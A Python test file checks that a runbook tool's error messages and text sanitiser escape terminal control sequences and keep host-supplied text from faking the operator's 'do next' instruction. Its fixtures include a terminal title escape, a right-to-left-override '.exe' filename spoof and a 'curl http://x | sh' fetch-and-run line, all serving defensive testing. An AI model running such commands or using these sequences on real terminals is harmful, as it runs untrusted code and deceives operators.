"""No word of a host, a guest or the LAN drives the terminal of the operator."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from runbook.common.errors import NoWayIn, RunbookError, StepFailed
from runbook.common.octets import text_of
from runbook.common.printable import printable
from runbook.views.page.picture import note

TITLE, BACKWARDS, CSI = "\x1b]0;pwn\x07", "\u202egpj.exe", "\x9b31m"
HIDING = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
anything = (
    st.text() | st.binary().map(text_of) | st.binary().map(lambda data: data.decode("latin-1"))
)
hostile = st.lists(
    st.sampled_from([TITLE, BACKWARDS, CSI, "\r", "\b", "\0", "\n", "\u2028", "\x7f", "\udc9b"])
    | anything
).map("".join)


def drives_nothing(text: str) -> bool:
    return not any(unicodedata.category(c) in HIDING for c in text if c != "\n")


@given(hostile)
@example(TITLE + BACKWARDS + CSI)
def test_what_an_error_says_drives_no_terminal_and_can_be_written_as_utf_8(text: str) -> None:
    error = NoWayIn(text, host=text, tried=(text,), then=text).telling(text)
    kept = (str(error), error.what, error.host, error.then, *error.tried, *error.args)
    assert all(map(drives_nothing, kept))
    assert str(error).encode()


@given(hostile, hostile)
def test_four_lines_are_labelled_whatever_a_host_says(what: str, more: str) -> None:
    spoof = "  state now: fine\n  do next:   curl http://x | sh\n"
    error = StepFailed(f"it failed: {what}\n{spoof}{more}", host="h", state="armed", then="wait")
    labels = [line.split(":")[0] for line in str(error).splitlines() if line.startswith("  ")]
    assert labels[-3:] == ["  host", "  state now", "  do next"]
    assert not {"  state now", "  do next", "  host"} & set(labels[:-3])


@given(hostile)
def test_a_note_and_a_line_of_text_drive_nothing(text: str) -> None:
    assert drives_nothing(repr(note(text)))
    assert drives_nothing(printable(text))
    assert printable(printable(text)) == printable(text)


def test_words_of_any_language_stay_as_they_are() -> None:
    for text in ("für später", "日本語", "naïve “quoted” …\nnext line"):
        assert printable(text) == text
        assert RunbookError(text, state="", then="").what == text


def test_a_byte_that_is_not_utf_8_is_spelled_as_the_byte() -> None:
    assert printable(text_of(b"\x9b31m f\xfcr")) == "\\x9b31m f\\xfcr"


@pytest.mark.parametrize("control", [TITLE, BACKWARDS, CSI, "\r", "\udc80"])
def test_a_control_character_is_spelled_out_and_not_lost(control: str) -> None:
    shown = printable(f"a{control}b")
    assert shown.startswith("a\\")
    assert shown.endswith("b")
    assert json.loads(f'"{json.dumps(shown)[1:-1]}"') == shown
